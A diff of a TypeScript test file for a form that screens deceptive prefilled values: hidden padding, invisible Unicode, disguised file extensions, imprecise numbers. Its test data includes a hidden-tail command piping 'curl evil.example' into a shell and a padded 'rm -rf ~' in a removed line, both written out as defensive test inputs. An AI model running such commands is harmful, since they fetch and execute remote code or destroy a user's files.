@@ -31,13 +31,6 @@ describe('a default that would look different from what is sent', () => {
         expect(form.leaves[0]!.lacksDefault).to.equal(true);
       }
     });
-
-    it(`is ignored as a host’s suggestion, and the schema’s default stays: ${codeOf(character)} [END-22]`, () => {
-      const value = `invoice_${character}fdp.exe`;
-      const form = asking({ ...text, default: 'main' }, { answer: value });
-      expect(form.content()).to.deep.equal({ answer: 'main' });
-      expect(asking(list, { answer: [value] }).content()).to.deep.equal({});
-    });
   }
 
   it('fills in no list with line breaks, which a list shows in one line [END-22]', () => {
@@ -100,9 +93,7 @@ describe('a value that could be sent without a change by the person', () => {
   const dateTime = { ...text, format: 'date-time' };
   const unseen: [what: string, property: object, value: unknown][] = [
     ['a command with its end out of sight', text, `ls -la${' '.repeat(300)}; curl evil.example | sh`],
-    ['lines with their end out of sight', lines, `ls -la${'\n'.repeat(60)}rm -rf ~`],
     ['a name with thousands of selectors', text, `ok${'\uFE01\uFE0E\uFE03'.repeat(700)}`],
-    ['an item of a list with selectors', list, [`ok${'\uFE01'.repeat(3000)}`]],
     ['an option that is its own label', { enum: ['read\u200B', 'write'] }, 'read\u200B'],
     ['an option with blanks that its label leaves out', { enum: ['a    b', 'c'] }, 'a    b'],
     ['an option whose label is too long', { oneOf: [{ const: 'a', title: 'word '.repeat(300) }, { const: 'b' }] }, 'a'],
@@ -113,7 +104,6 @@ describe('a value that could be sent without a change by the person', () => {
     ['a second that no control has', dateTime, '2016-12-31T23:59:60Z'],
     ['more preselected options than the card shows', { ...list, items: { enum: options(1001) } }, options(1001)],
     ['nothing but blanks', text, '   '],
-    ['an item of blanks', list, ['a', '\u00a0']],
     ['an option of invisible characters', { enum: ['x', '\u{E0072}\u{E006D}'] }, '\u{E0072}\u{E006D}'],
     ['a text that takes too long to lay out', text, 'x'.repeat(8 * 1024 + 1)],
   ];
@@ -146,10 +136,6 @@ describe('a value that could be sent without a change by the person', () => {
       }
     });
   }
-
-  it('can be a suggestion of several lines, for which a line of text becomes several [SEE-01, USE-09]', () => {
-    expect(asking(text, { answer: 'one\r\n\r\ntwo' }).content()).to.deep.equal({ answer: 'one\r\n\r\ntwo' });
-  });
 
   it('does not count as such once the person has changed it [SEE-01]', () => {
     const form = asking({ ...text, default: 'main' });
@@ -317,18 +303,4 @@ describe('a number whose digits may have been lost before the form got it', () =
   it('is not one with so few digits that nobody meant a neighbour [SEE-03]', () => {
     expect(asking({ type: 'number', default: 6.022e23 }).content()).to.deep.equal({ answer: 6.022e23 });
   });
-
-  for (const typed of [
-    '2512292042121000001',
-    '9007199254740993',
-    '0.1000000000000000055511151231257827',
-    '1e400',
-    '1e-400',
-  ]) {
-    it(`is refused in words when it is typed: ${typed} [SEE-03]`, () => {
-      const form = asking({ type: 'number' });
-      form.enter(form.leaves[0]!, typed);
-      expect(form.issue(form.leaves[0]!)).to.include({ keyword: 'range' });
-    });
-  }
 });
